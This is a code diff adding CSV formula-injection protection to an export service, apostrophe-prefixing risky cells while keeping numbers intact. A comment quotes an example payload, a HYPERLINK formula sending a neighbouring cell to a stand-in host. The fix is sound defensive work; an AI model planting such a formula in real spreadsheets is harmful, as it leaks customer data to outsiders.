@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from collections.abc import Iterable
 from decimal import Decimal
 
@@ -43,11 +44,33 @@ LEDGER_COLUMNS = (
 )
 
 
-def _csv(header: tuple[str, ...], rows: Iterable[Iterable[object]]) -> bytes:
+# A spreadsheet runs a cell that starts with one of these as a formula: a customer named
+# =HYPERLINK("http://evil.test/?d="&C2,"Prize") would send the next column to a stranger.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+# A phone number ("+254 700 000001") or a signed figure runs nothing: it stays as it is.
+_PLAIN_NUMBER = re.compile(r"[+-]?[0-9][0-9 .]*")
+
+
+def safe_cell(value: object) -> object:
+    """Text that a spreadsheet would run is kept as text, behind an apostrophe (OWASP's
+    advice for CSV injection). Numbers stay numbers, negative ones too."""
+    if (
+        isinstance(value, str)
+        and value.startswith(FORMULA_STARTS)
+        and not _PLAIN_NUMBER.fullmatch(value)
+    ):
+        return "'" + value
+    return value
+
+
+def to_csv(header: tuple[str, ...], rows: Iterable[Iterable[object]]) -> bytes:
+    """Every CSV the bot writes: UTF-8 with a BOM, and no cell a spreadsheet would run."""
     text = io.StringIO()
     writer = csv.writer(text)
     writer.writerow(header)
-    writer.writerows(rows)
+    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
     return text.getvalue().encode("utf-8-sig")
 
 
@@ -77,7 +100,7 @@ class ExportService:
                 )
                 for c in customers
             ]
-        return _csv(CUSTOMER_COLUMNS, rows)
+        return to_csv(CUSTOMER_COLUMNS, rows)
 
     async def ledger_csv(self, *, actor: Actor | None) -> bytes:
         await audit.note(self._ctx.db, self._ctx.clock, actor=actor, action="export", file="ledger")
@@ -109,4 +132,4 @@ class ExportService:
                 )
                 for e, code, branch, staff in result
             ]
-        return _csv(LEDGER_COLUMNS, rows)
+        return to_csv(LEDGER_COLUMNS, rows)
